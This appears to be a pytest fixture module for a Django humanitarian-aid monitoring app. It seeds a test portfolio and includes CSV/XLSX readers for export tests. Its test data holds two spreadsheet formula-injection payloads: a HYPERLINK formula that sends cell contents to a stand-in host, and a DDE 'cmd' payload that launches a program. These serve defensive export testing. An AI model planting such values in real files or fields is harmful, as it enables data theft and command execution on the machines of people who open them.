"""A small portfolio for the export tests, its users per role, and readers
that turn a download back into rows.

Two programmes in two governorates, each funded by one donor:
CRP (USA) in Kirkuk, RRP (Canada) in Ninewa. The Ninewa project's name is a
formula and the Kirkuk project's name is Arabic, so that every export carries
both kinds of text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import factory
import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from beneficiaries.models import Beneficiary, Referral, recipient_field
from indicators.models import IndicatorDefinition, IndicatorValue
from tests.factories import (
    AssistanceRecordFactory,
    DonorFactory,
    MonitoringVisitFactory,
    ProgrammeFactory,
    ProjectFactory,
    UserFactory,
    governorate,
    user_with_role,
)
from tests.shared_data import built_for_module, for_test

ARABIC_NAME = "إعادة تأهيل مركز صحي — كركوك"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SECRET_NAME = "Fatima Al-Secret"
SECRET_PHONE = "+9647700000001"


class IndicatorDefinitionFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = IndicatorDefinition
        django_get_or_create = ("code",)

    code = "direct-recipients"
    name = "Direct recipients"
    source = IndicatorDefinition.Source.ASSISTANCE
    measure = IndicatorDefinition.Measure.PEOPLE


class IndicatorValueFactory(factory.django.DjangoModelFactory):
    """A stored value; the engine is not run (the exports read the table as is)."""

    class Meta:
        model = IndicatorValue

    definition = factory.SubFactory(IndicatorDefinitionFactory)
    period_type = IndicatorValue.PeriodType.CUMULATIVE
    period_end = dt.date(2018, 3, 31)
    value = Decimal("0")
    computed_at = factory.LazyFunction(timezone.now)


def build_portfolio() -> dict:
    usa = DonorFactory(name="USA", code="USA")
    canada = DonorFactory(name="Canada", code="CAN")
    crp = ProgrammeFactory(code="CRP", name="Community Revitalization Programme")
    rrp = ProgrammeFactory(code="RRP", name="Rapid Recovery Programme")
    kirkuk, ninewa = governorate("IQG13"), governorate("IQG15")
    kirkuk_project = ProjectFactory(
        code="CRP-KRK-1", name=ARABIC_NAME, programme=crp, governorate=kirkuk, donor=usa
    )
    ninewa_project = ProjectFactory(
        code="RRP-NIN-1", name=FORMULA_NAME, programme=rrp, governorate=ninewa, donor=canada
    )
    person = Beneficiary.objects.create(
        full_name=SECRET_NAME,
        phone=SECRET_PHONE,
        sex="f",
        age_group="18-59",
        population_group="idp",
        governorate=kirkuk,
    )
    field = user_with_role("monitor", username="field", governorates=[kirkuk])
    other_field = user_with_role("monitor", username="other-field", governorates=[kirkuk, ninewa])
    kirkuk_visit = MonitoringVisitFactory(
        project=kirkuk_project,
        monitor=field,
        status="approved",
        visit_date=dt.date(2018, 2, 15),
        findings=f"Met {SECRET_NAME} at home",
    )
    Referral.objects.create(
        visit=kirkuk_visit, issue="Roof leaks", referred_to="=cmd|' /C calc'!A0"
    )
    draft_visit = MonitoringVisitFactory(
        project=kirkuk_project, monitor=field, status="draft", visit_date=dt.date(2018, 3, 1)
    )
    ninewa_visit = MonitoringVisitFactory(
        project=ninewa_project,
        monitor=other_field,
        status="submitted",
        visit_date=dt.date(2018, 2, 20),
    )

    kirkuk_record = AssistanceRecordFactory(
        project=kirkuk_project,
        beneficiary=person,
        visit=kirkuk_visit,
        delivered_on=dt.date(2018, 2, 15),
        units=1,
        households=1,
        people=1,
        household_size=5,
        **{recipient_field("f", "18-59", "idp"): 1},
    )
    kirkuk_later = AssistanceRecordFactory(
        project=kirkuk_project,
        delivered_on=dt.date(2018, 5, 10),
        units=2,
        households=2,
        people=2,
        status="submitted",
    )
    kirkuk_draft = AssistanceRecordFactory(
        project=kirkuk_project, visit=draft_visit, delivered_on=dt.date(2018, 3, 1), status="draft"
    )
    ninewa_record = AssistanceRecordFactory(
        project=ninewa_project,
        delivered_on=dt.date(2018, 2, 20),
        units=30,
        households=30,
        people=30,
        **{
            recipient_field("f", "18-59", "refugee"): 16,
            recipient_field("m", "18-59", "refugee"): 14,
        },
    )

    people = IndicatorDefinitionFactory(code="direct-recipients", name="Direct recipients")
    usd = IndicatorDefinitionFactory(
        code="contributions-usd", name="Contributions", source="contributions", measure="usd"
    )
    q2 = dt.date(2018, 6, 30)
    splits = {
        "sex_f": 0,
        "sex_m": 0,
        "pop_idp": 0,
        "pop_returnee": 0,
        "pop_host": 0,
        "pop_refugee": 0,
    }
    splits.update({"age_0_5": 0, "age_6_17": 0, "age_18_59": 0, "age_60_plus": 0})
    values = {
        # The mission total, and the two cells it is made of.
        "all": IndicatorValueFactory(
            definition=people,
            value=31,
            **{
                **splits,
                "sex_f": 17,
                "sex_m": 14,
                "age_18_59": 31,
                "pop_idp": 1,
                "pop_refugee": 30,
            },
        ),
        "kirkuk": IndicatorValueFactory(
            definition=people,
            governorate=kirkuk,
            programme=crp,
            donor=usa,
            value=1,
            **{**splits, "sex_f": 1, "age_18_59": 1, "pop_idp": 1},
        ),
        "ninewa": IndicatorValueFactory(
            definition=people,
            governorate=ninewa,
            programme=rrp,
            donor=canada,
            value=30,
            **{**splits, "sex_f": 16, "sex_m": 14, "age_18_59": 30, "pop_refugee": 30},
        ),
        # CRP's and Kirkuk's totals.
        "crp": IndicatorValueFactory(definition=people, programme=crp, value=1, **splits),
        "kirkuk_all": IndicatorValueFactory(
            definition=people, governorate=kirkuk, value=1, **splits
        ),
        # USA's total: 3 women and 47 men; hiding the 3 alone would give it away.
        "usa": IndicatorValueFactory(
            definition=people,
            donor=usa,
            value=50,
            **{**splits, "sex_f": 3, "sex_m": 47, "age_18_59": 50, "pop_idp": 50},
        ),
        "usa_q2": IndicatorValueFactory(
            definition=people,
            donor=usa,
            period_end=q2,
            value=52,
            **{**splits, "sex_f": 5, "sex_m": 47},
        ),
        "usa_quarter": IndicatorValueFactory(
            definition=people,
            donor=usa,
            period_type="quarter",
            period_start=dt.date(2018, 1, 1),
            value=50,
        ),
        # US$ 2 from USA to CRP: money, never hidden as a small count.
        "usa_usd": IndicatorValueFactory(
            definition=usd, programme=crp, donor=usa, value=Decimal("2.50")
        ),
    }
    return {
        "usa": usa,
        "canada": canada,
        "crp": crp,
        "rrp": rrp,
        "kirkuk": kirkuk,
        "ninewa": ninewa,
        "kirkuk_project": kirkuk_project,
        "ninewa_project": ninewa_project,
        "records": {
            "kirkuk": kirkuk_record,
            "kirkuk_later": kirkuk_later,
            "kirkuk_draft": kirkuk_draft,
            "ninewa": ninewa_record,
        },
        "visits": {"kirkuk": kirkuk_visit, "draft": draft_visit, "ninewa": ninewa_visit},
        "values": values,
        "field": field,
        "other_field": other_field,
    }


@pytest.fixture(scope="module")
def _portfolio_for_module(request, django_db_setup, django_db_blocker):
    yield from built_for_module(request, django_db_blocker, build_portfolio)


@pytest.fixture
def portfolio(_portfolio_for_module, db) -> dict:
    """``build_portfolio()``, built once for the module's tests (tests/shared_data.py)."""
    return for_test(_portfolio_for_module, build_portfolio)


def build_users(portfolio: dict) -> dict:
    """One user per role: an administrator, a manager of CRP (in scope of the
    Kirkuk data), a manager of another programme (out of scope of everything),
    the Kirkuk monitor, a USA donor and a user without a role."""
    return {
        "admin": user_with_role("admin", username="admin"),
        "manager": user_with_role("manager", username="manager", programmes=[portfolio["crp"]]),
        "outsider": user_with_role("manager", username="outsider", programmes=[ProgrammeFactory()]),
        "monitor": portfolio["field"],
        "donor": user_with_role("donor", username="donor", donor=portfolio["usa"]),
        "norole": UserFactory(username="norole"),
    }


@pytest.fixture(scope="module")
def _users_for_module(request, _portfolio_for_module, django_db_blocker):
    yield from built_for_module(
        request, django_db_blocker, lambda: build_users(_portfolio_for_module)
    )


@pytest.fixture
def users(_users_for_module, portfolio) -> dict:
    """``build_users()``, built once for the module's tests as the portfolio is."""
    return for_test(_users_for_module, lambda: build_users(portfolio))


def url(slug: str, fmt: str) -> str:
    return reverse("exports:download", args=[slug, fmt])


def content(response) -> bytes:
    """The whole body of a streamed response. Reading it to the end closes
    the response (and its file) as a WSGI server would: the test client
    wraps the stream so (calling ``close()`` directly would also close the
    test's database connection)."""
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    """A CSV download as rows: headers, hashtags, data (the BOM checked and dropped)."""
    body = content(response)
    assert body.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble Arabic"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response):
    """The one worksheet of an XLSX download, read back with openpyxl."""
    workbook = openpyxl.load_workbook(io.BytesIO(content(response)))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


def xlsx_rows(response) -> list[list]:
    return [[cell.value for cell in row] for row in xlsx_sheet(response).iter_rows()]


def download(client, user, slug: str, fmt: str = "csv", **params) -> list[list]:
    """The rows of a download by ``user`` (CSV or XLSX), asserting it succeeded."""
    client.force_login(user)
    response = client.get(url(slug, fmt), params)
    assert response.status_code == 200, response.content[:500] if not response.streaming else ""
    return csv_rows(response) if fmt == "csv" else xlsx_rows(response)


def column(rows: list[list], key: str) -> list:
    """The data cells of the column tagged with the HXL hashtag of ``key``."""
    from exports.hxl import hxl_tag

    index = rows[1].index(hxl_tag(key))
    return [row[index] for row in rows[2:]]
